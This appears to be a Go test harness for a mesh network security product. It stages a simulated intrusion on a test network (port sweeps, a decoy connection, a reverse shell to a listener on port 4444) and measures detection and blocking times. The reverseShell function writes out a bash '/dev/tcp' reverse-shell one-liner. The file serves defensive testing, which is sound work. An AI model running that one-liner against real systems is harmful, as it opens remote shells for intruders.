package drill

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	apiv1 "github.com/omega-mesh/omega/node/api/v1"
	"github.com/omega-mesh/omega/node/testnet"
)

const (
	techniqueScan  = "T1046"
	techniqueTouch = "T1021"
	techniqueShell = "T1059.004"

	catchPort = 4444
	scanPorts = "1-1024"
	// sweepPorts are few enough that no host takes them for a scan: sweeping alone must not have anyone blocked.
	sweepPorts = "22,80,443"

	detectLimit   = 5 * time.Second
	hopelessLimit = time.Second // for what process mode is not expected to see
	immunityLimit = 5 * time.Second
	toolLimit     = 15 * time.Second
	// refusedAfter is how long a connect to a kernel that drops the packets is tried.
	refusedAfter = 700 * time.Millisecond
)

// drill is one run.
type drill struct {
	net      *testnet.Net
	state    *testnet.State
	progress func(string)
	screen   screen
	watch    *watch
	result   Result

	attacker *testnet.Host
	members  []*testnet.Host
	ring     []Attempt
}

func (d *drill) run(ctx context.Context) (err error) {
	d.members = d.state.Members()
	if d.attacker, err = d.state.Host(testnet.Outsider); err != nil {
		return err
	}
	if d.watch, err = follow(ctx, d.members[0]); err != nil {
		return err
	}
	defer d.watch.close()
	d.introduce()
	trap, err := d.catch(ctx)
	if err != nil {
		return err
	}
	defer trap.close()

	if err := d.control(ctx); err != nil {
		return err
	}
	if err := d.scan(ctx); err != nil {
		return err
	}
	if err := d.touch(ctx); err != nil {
		return err
	}
	if err := d.reverseShell(ctx, trap); err != nil {
		return err
	}
	return d.prove(ctx)
}

// tool runs one of the attacker's tools inside a host and reads the one line it prints.
func (d *drill) tool(ctx context.Context, h *testnet.Host, into any, tool string, args ...string) error {
	ctx, cancel := context.WithTimeout(ctx, toolLimit)
	defer cancel()
	cmd := d.command(ctx, tool, h, args...)
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	if err := d.net.Start(h, cmd); err != nil {
		return err
	}
	if err := cmd.Wait(); err != nil {
		return fmt.Errorf("%s on %s: %w: %s", tool, h.Name, err, strings.TrimSpace(errOut.String()))
	}
	return json.Unmarshal(out.Bytes(), into)
}

func (d *drill) command(ctx context.Context, tool string, h *testnet.Host, args ...string) *exec.Cmd {
	cmd := exec.CommandContext(ctx, d.state.Binary, append([]string{"drill", "helper", tool, h.Addr.String()}, args...)...)
	cmd.Args[0] = "omega"
	return cmd
}

// trap is the attacker's listener, on which a reverse shell would arrive.
type trap struct {
	cmd    *exec.Cmd
	in     io.Closer
	mu     sync.Mutex
	caught []Caught
	done   chan struct{}
}

func (d *drill) catch(ctx context.Context) (*trap, error) {
	t := &trap{cmd: d.command(ctx, "listen", d.attacker, strconv.Itoa(catchPort)), done: make(chan struct{})}
	in, err := t.cmd.StdinPipe()
	if err != nil {
		return nil, err
	}
	t.in = in
	out, err := t.cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	if err := d.net.Start(d.attacker, t.cmd); err != nil {
		return nil, err
	}
	lines := bufio.NewScanner(out)
	if !lines.Scan() {
		in.Close()
		return nil, fmt.Errorf("the attacker's listener did not start: %v", t.cmd.Wait())
	}
	go func() {
		defer close(t.done)
		for lines.Scan() {
			var c Caught
			if json.Unmarshal(lines.Bytes(), &c) == nil {
				t.mu.Lock()
				t.caught = append(t.caught, c)
				t.mu.Unlock()
			}
		}
	}()
	return t, nil
}

func (t *trap) close() {
	t.in.Close()
	<-t.done
	t.cmd.Wait()
}

// shellFrom says whether a shell of that host answered the attacker.
func (t *trap) shellFrom(addr netip.Addr) bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	return slices.ContainsFunc(t.caught, func(c Caught) bool { return c.From.Addr() == addr && c.Said != "" })
}

func (d *drill) swarmPorts() []string {
	out := make([]string, len(d.members))
	for i, h := range d.members {
		out[i] = netip.AddrPortFrom(h.Addr, h.Port).String()
	}
	return out
}

// control makes sure that what is to fail later works now: else its failing would prove nothing.
func (d *drill) control(ctx context.Context) error {
	d.progress("checking that every host reaches every other before the attack")
	inbound, outbound, ring, err := d.dialRound(ctx)
	if err != nil {
		return err
	}
	for _, a := range slices.Concat(inbound, outbound, ring) {
		if !a.OK {
			return fmt.Errorf("before the attack, a connect to %s already fails: %s", a.To, a.Error)
		}
	}
	return nil
}

// dialRound makes real TCP connects: attacker to every member, every member to the attacker, every member to the next.
func (d *drill) dialRound(ctx context.Context) (inbound, outbound, ring []Attempt, err error) {
	n := len(d.members)
	outbound, ring = make([]Attempt, n), make([]Attempt, n)
	errs := make([]error, n+1)
	ports := d.swarmPorts()
	trap := netip.AddrPortFrom(d.attacker.Addr, catchPort).String()
	var wg sync.WaitGroup
	wg.Go(func() {
		errs[n] = d.tool(ctx, d.attacker, &inbound, "dial", append([]string{refusedAfter.String()}, ports...)...)
	})
	for i, h := range d.members {
		wg.Go(func() {
			var got []Attempt
			if errs[i] = d.tool(ctx, h, &got, "dial", refusedAfter.String(), trap, ports[(i+1)%n]); errs[i] == nil && len(got) == 2 {
				outbound[i], ring[i] = got[0], got[1]
			}
		})
	}
	wg.Wait()
	if err := errors.Join(errs...); err != nil {
		return nil, nil, nil, err
	}
	if len(inbound) != n {
		return nil, nil, nil, errors.New("the attacker's connects gave no result")
	}
	return inbound, outbound, ring, nil
}

// scan looks at the neighbours, then at one of them in full. It alone must have nobody blocked.
func (d *drill) scan(ctx context.Context) error {
	target := d.members[min(2, len(d.members)-1)]
	var neighbours []string
	for _, h := range d.members {
		if h.Name != target.Name {
			neighbours = append(neighbours, h.Addr.String())
		}
	}
	d.progress("x1 sweeps its neighbours")
	mark := d.watch.mark()
	var sweep, full Scan
	if err := d.tool(ctx, d.attacker, &sweep, "scan", append([]string{sweepPorts}, neighbours...)...); err != nil {
		return err
	}
	d.progress("x1 scans " + target.Name)
	if err := d.tool(ctx, d.attacker, &full, "scan", scanPorts, target.Addr.String()); err != nil {
		return err
	}
	return d.detect(ctx, Step{Technique: techniqueScan, Host: target.Name,
		Name: fmt.Sprintf("x1 sweeps its neighbours, then scans %d ports of %s", full.Ports, target.Name)}, mark, full.Boot, d.aboutAttacker)
}

func (d *drill) aboutAttacker(f *apiv1.Finding) bool {
	a, err := netip.ParseAddr(f.GetSubject().GetAddress())
	return err == nil && a.Unmap() == d.attacker.Addr
}

// detect waits for the finding a step should give, after mark, and adds the step to the result. Its time runs from boot,
// the step's first packet or system call, until any member's API shows the finding.
func (d *drill) detect(ctx context.Context, s Step, mark int, boot uint64, fits func(*apiv1.Finding) bool) error {
	limit := detectLimit
	if d.net.Mode() == testnet.ModeProcess && s.Technique != techniqueTouch {
		limit = hopelessLimit
	}
	f, err := d.watch.finding(ctx, mark, limit, func(f *apiv1.Finding) bool {
		return f.GetHost() == s.Host && slices.Contains(f.GetAttack(), s.Technique) && fits(f)
	})
	if err != nil {
		return err
	}
	if f.Finding != nil {
		s.Detected, s.Rule, s.DetectMS = true, f.GetRule(), float64(f.at-min(f.at, boot))/1e6
	}
	d.result.Steps = append(d.result.Steps, s)
	d.showStep(s)
	return nil
}

// touch connects to the decoy on n2, and waits until every kernel refuses the attacker.
func (d *drill) touch(ctx context.Context) error {
	decoy := d.members[1]
	d.progress("x1 touches the decoy on " + decoy.Name)
	mark := d.watch.mark()
	var got []Attempt
	if err := d.tool(ctx, d.attacker, &got, "dial", "2s", netip.AddrPortFrom(decoy.Addr, decoy.Decoy).String()); err != nil {
		return err
	}
	if len(got) != 1 || !got[0].OK {
		d.result.Notes = append(d.result.Notes, fmt.Sprintf("the decoy on %s took no connection: %+v", decoy.Name, got))
		return nil
	}
	t0 := got[0].Boot
	step := Step{Technique: techniqueTouch, Host: decoy.Name, Name: fmt.Sprintf("x1 touches the decoy on %s, tcp/%d", decoy.Name, decoy.Decoy)}
	err := d.detect(ctx, step, mark, t0, func(f *apiv1.Finding) bool { return f.GetDecoy() != "" && d.aboutAttacker(f) })
	if err != nil {
		return err
	}
	if d.net.Mode() == testnet.ModeProcess {
		return nil // nothing can be refused
	}

	shown := map[string]bool{}
	_, err = d.watch.until(ctx, immunityLimit, func() bool {
		acted := d.watch.acted(d.attacker.Addr)
		d.showBars(acted, t0, shown)
		return len(acted) >= len(d.members)
	})
	d.watch.mu.Lock()
	acted := d.watch.acted(d.attacker.Addr)
	d.watch.mu.Unlock()
	var all []float64
	for _, h := range d.members {
		hr := HostResult{Host: h.Name, Means: []string{}}
		if r := acted[h.Name]; r != nil && r.GetActed() >= t0 {
			hr.HeardMS, hr.ImmunityMS = float64(r.GetHeard()-min(t0, r.GetHeard()))/1e6, float64(r.GetActed()-t0)/1e6
			hr.Means = r.GetMeans()
			all = append(all, hr.ImmunityMS)
		} else if r != nil {
			d.result.Notes = append(d.result.Notes, h.Name+" refused the attacker before it touched the decoy")
		}
		d.result.Hosts = append(d.result.Hosts, hr)
	}
	d.result.ImmunityMS = spread(all)
	return err
}

// reverseShell has n1 open a shell to the attacker, with bash as an intruder would; the kernel is to refuse it.
func (d *drill) reverseShell(ctx context.Context, t *trap) error {
	victim := d.members[0]
	d.progress("a reverse shell opens from " + victim.Name + " to x1")
	ctx2, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	to := netip.AddrPortFrom(d.attacker.Addr, catchPort)
	cmd := d.command(ctx2, "shell", victim, to.String())
	if bash, err := exec.LookPath("bash"); err == nil && d.net.Mode() == testnet.ModeNetns {
		cmd = exec.CommandContext(ctx2, bash, "-c", fmt.Sprintf("exec bash --norc </dev/tcp/%s/%d >&0 2>&0", to.Addr(), to.Port()))
	}
	mark, boot := d.watch.mark(), bootTime()
	if err := d.net.Start(victim, cmd); err != nil {
		return err
	}
	step := Step{Technique: techniqueShell, Host: victim.Name, Name: fmt.Sprintf("%s opens a reverse shell to x1", victim.Name)}
	step.Refused = cmd.Wait() != nil && !t.shellFrom(victim.Addr)
	if d.net.Mode() == testnet.ModeNetns && !step.Refused {
		d.result.Notes = append(d.result.Notes, "a shell of "+victim.Name+" reached the attacker")
	}
	return d.detect(ctx, step, mark, boot, func(*apiv1.Finding) bool { return true })
}

// prove asks the network itself: after the block, the same connects as before.
func (d *drill) prove(ctx context.Context) error {
	d.progress("proving it with real connections")
	inbound, outbound, ring, err := d.dialRound(ctx)
	if err != nil {
		return err
	}
	d.ring = ring
	for _, a := range ring {
		if !a.OK {
			d.result.FalseBlocks++
			d.result.Notes = append(d.result.Notes, fmt.Sprintf("a member no longer reaches %s: %s", a.To, a.Error))
		}
	}
	for i, h := range d.members {
		if d.net.Mode() == testnet.ModeNetns && i < len(d.result.Hosts) {
			r := &d.result.Hosts[i]
			r.Inbound, r.Outbound = inbound[i].verdict(), outbound[i].verdict()
			r.Blocked = !inbound[i].OK && !outbound[i].OK && len(r.Means) > 0
			if r.Blocked {
				d.result.BlockedOn++
			}
		}
		list, err := h.Client().ListResponses(ctx, &apiv1.ListResponsesRequest{Active: true})
		if err != nil {
			return fmt.Errorf("ask %s what it refuses: %w", h.Name, err)
		}
		for _, r := range list.GetResponses() {
			if r.GetState() == "active" && !denied(r, d.attacker.Addr) {
				d.result.FalseBlocks++
				d.result.Notes = append(d.result.Notes, fmt.Sprintf("%s: %s %s%s: %s", h.Name, r.GetAction(), r.GetTarget().GetAddress(), r.GetTarget().GetPeer(), r.GetReason()))
			}
		}
	}
	return nil
}

func (a Attempt) verdict() string {
	if a.OK {
		return "connected"
	}
	return a.Error
}
